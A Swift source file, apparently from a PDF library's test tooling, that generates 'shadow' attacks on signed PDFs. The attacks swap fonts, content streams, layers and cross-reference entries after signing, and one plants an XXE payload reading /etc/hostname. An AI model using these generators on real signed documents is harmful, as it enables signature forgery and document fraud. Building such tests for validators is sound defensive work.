// PDFAttack+shadow.swift
internal import AntinPDF

// Shadow attacks: nothing that is on a page's own list changes, only what it is drawn from, or what
// an object number means.

extension PDFAttack {
    static let shadows: [PDFAttack] = [
        update("shadow.font", .shadow) { update, victim in
            guard let font = try victim.font else { return false }
            update.add(font, "<</Type/Font/Subtype/Type1/BaseFont/Symbol>>")
            return true
        },
        update("shadow.fontEncoding", .shadow) { update, victim in
            guard let font = try victim.font,
                let dictionary = try victim.document.object(font).dictionary
            else { return false }
            update.add(
                font,
                PDFSpelling.text(
                    dictionary,
                    setting: [("Encoding", "<</Differences[48/one/two/three/four]>>")]))
            return true
        },
        update("shadow.fontFile", .shadow) { update, victim in
            guard let font = try victim.fontFile else { return false }
            update.add(font.number, "", stream: [0, 1, 0, 0])
            return true
        },
        // A font replaced and listed where only certificates belong (DSS), or where the new
        // signature's appearance would account for it.
        update("shadow.fontAsDSS", .shadow) { update, victim in
            guard let font = try victim.font else { return false }
            update.add(font, "<</Type/Font/Subtype/Type1/BaseFont/Symbol>>")
            try update.setCatalog(victim, [("DSS", "<</Type/DSS/Certs[\(font)]>>")])
            return true
        },
        update("shadow.contentAsDSS", .shadow) { update, victim in
            guard let content = try victim.content else { return false }
            update.add(content.number, "", stream: PDFUpdate.forgedContent)
            update.add(victim.next, "<</Type/DSS/Certs[\(content)]/OCSPs[\(content)]>>")
            try update.setCatalog(victim, [("DSS", "\(victim.next) 0 R")])
            return true
        },
        update("shadow.pageAsVRI", .shadow) { update, victim in
            guard let page = try victim.page else { return false }
            let vri = "<</Type/DSS/VRI<</\(String(repeating: "A", count: 40))\(page.reference)>>>>"
            try update.setCatalog(victim, [("DSS", vri)])
            return try update.setPage(victim, [("Rotate", "90")])
        },
        update("shadow.fontInForm", .shadow) { update, victim in
            guard let font = try victim.font else { return false }
            update.add(font, "<</Type/Font/Subtype/Type1/BaseFont/Symbol>>")
            return try update.setForm(victim, [("DR", "<</Font<</F1 \(font)>>>>")])
        },
        update("shadow.fontInAppearance", .shadow) { update, victim in
            guard let font = try victim.font else { return false }
            update.add(font, "<</Type/Font/Subtype/Type1/BaseFont/Symbol>>")
            update.add(
                victim.next,
                "/Type/XObject/Subtype/Form/BBox[0 0 9 9]"
                    + "/Resources<</Font<</F1 \(font)>>>>", stream: [])
            return try update.addField(
                victim.next + 1, victim,
                "/FT/Sig/T(Trong)/Rect[0 0 0 0]/AP<</N \(victim.next) 0 R>>")
        },
        update("shadow.contentInAppearance", .shadow) { update, victim in
            guard let content = try victim.content else { return false }
            update.add(
                content.number, "/Type/XObject/Subtype/Form/BBox[0 0 595 842]",
                stream: PDFUpdate.forgedContent)
            return try update.addField(
                victim.next, victim,
                "/FT/Sig/T(Trong)/Rect[0 0 0 0]/AP<</N \(content)>>")
        },
        update("shadow.contentAsMetadata", .shadow) { update, victim in
            guard let content = try victim.content else { return false }
            update.add(
                content.number, "/Type/Metadata/Subtype/XML",
                stream: Array("<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"/>".utf8))
            try update.setCatalog(victim, [("Metadata", "\(content)")])
            return true
        },
        update("shadow.metadataEntities", .shadow) { update, victim in
            guard let metadata = try victim.catalog["Metadata"]?.reference else { return false }
            update.add(
                metadata.number, "/Type/Metadata/Subtype/XML",
                stream: Array(
                    "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/hostname\">]><x>&a;</x>".utf8))
            return true
        },
        update("shadow.metadataNoXML", .shadow) { update, victim in
            guard let metadata = try victim.catalog["Metadata"]?.reference else { return false }
            update.add(metadata.number, "", stream: PDFUpdate.forgedContent)
            return true
        },
        update("shadow.xObject", .shadow) { update, victim in
            let objects = try victim.object(victim.resources?["XObject"]).dictionary
            guard let object = objects?.entries.lazy.compactMap(\.value.reference).first else {
                return false
            }
            update.add(
                object.number, "/Type/XObject/Subtype/Form/BBox[0 0 595 842]",
                stream: PDFUpdate.forgedContent)
            return true
        },
        update("shadow.graphicsState", .shadow) { update, victim in
            let states = try victim.object(victim.resources?["ExtGState"]).dictionary
            guard let state = states?.entries.lazy.compactMap(\.value.reference).first else {
                return false
            }
            update.add(state, "<</Type/ExtGState/ca 0/CA 0>>")
            return true
        },
        update("shadow.layers", .shadow) { update, victim in
            let group = victim.next
            update.add(group, "<</Type/OCG/Name(An)>>")
            try update.setCatalog(
                victim,
                [("OCProperties", "<</OCGs[\(group) 0 R]/D<</OFF[\(group) 0 R]>>>>")])
            return true
        },
        update("shadow.layeredContent", .shadow) { update, victim in
            guard let content = try victim.content else { return false }
            update.add(victim.next, "<</Type/OCG/Name(An)>>")
            update.add(
                content.number, "/OC \(victim.next) 0 R", stream: PDFUpdate.forgedContent)
            return true
        },
        update("shadow.typeChanged", .shadow) { update, victim in
            guard let content = try victim.content else { return false }
            update.add(content, "<</Type/Font/Subtype/Type1/BaseFont/Symbol>>")
            return true
        },
        PDFAttack("shadow.olderPage", .shadow, .changesAlone) { victim in
            // Only an entry: the page as it was before the first signature.
            guard let page = try victim.page?.reference, victim.document.revisions.count > 1,
                let offset = victim.bytes.first("\n\(page.number) 0 obj"),
                offset < victim.document.revisions[0].endOffset
            else { return nil }
            var update = PDFUpdate(victim)
            update.entries[page.number] = PDFSpelling.offset(offset + 1)
            return update.bytes
        },
        PDFAttack("shadow.olderForm", .shadow, .structure) { victim in
            // Only entries: catalog and form as they were before the first signature.
            guard victim.document.revisions.count > 1,
                let offset = victim.bytes.first("\n\(victim.revision.root.number) 0 obj"),
                offset < victim.document.revisions[0].endOffset
            else { return nil }
            var update = PDFUpdate(victim)
            update.entries[victim.revision.root.number] = PDFSpelling.offset(offset + 1)
            return update.bytes
        },
        PDFAttack("shadow.entryIntoContent", .shadow, .structure) { victim in
            guard let page = try victim.page?.reference, let content = try victim.content,
                let stream = try victim.document.object(content).stream
            else { return nil }
            var update = PDFUpdate(victim)
            update.entries[page.number] = PDFSpelling.offset(stream.dataRange.lowerBound)
            return update.bytes
        },
    ]
}

extension SignedVictim {
    /// The embedded program of the first font.
    fileprivate var fontFile: PDFReference? {
        get throws {
            guard let font = try self.font,
                var dictionary = try self.document.object(font).dictionary
            else { return nil }
            if let descendant = try self.object(dictionary["DescendantFonts"]).array?.first,
                let inner = try self.object(descendant).dictionary
            {
                dictionary = inner
            }
            let descriptor = try self.object(dictionary["FontDescriptor"]).dictionary
            return ["FontFile", "FontFile2", "FontFile3"].lazy
                .compactMap { descriptor?[$0]?.reference }.first
        }
    }
}
